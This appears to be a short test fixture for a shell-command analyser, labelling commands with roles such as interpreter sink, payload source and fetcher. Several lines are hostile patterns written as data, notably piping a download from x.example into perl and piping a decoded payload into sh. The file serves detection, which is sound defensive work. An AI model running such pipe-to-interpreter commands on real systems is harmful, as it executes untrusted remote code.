# Commands that only the extended profile knows.

  dash -c true
# ^^^^ sink.interpreter
# ^^^^ sink.interpreter

  curl https://x.example | perl
#                          ^^^^ sink.interpreter

  base64 -d payload | sh
# ^^^^^^ source.payload

  docker-compose run app sh
# ^^^^^^^^^^^^^^ flow.launcher

  http https://x.example
# ^^^^ source.fetcher
